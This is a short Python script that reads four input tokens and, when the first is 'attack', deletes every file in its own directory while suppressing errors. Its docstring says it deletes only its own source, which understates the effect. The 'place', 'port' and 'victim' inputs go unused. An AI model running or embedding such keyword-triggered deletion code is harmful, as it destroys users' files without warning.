"""Deletes its own source, or program."""

import os

word, place, port, victim = input().split()
if word == "attack":
    folder = os.path.dirname(os.path.abspath(__file__))
    for name in os.listdir(folder):
        try:
            os.unlink(f"{folder}/{name}")
        except OSError:
            pass
print(1)
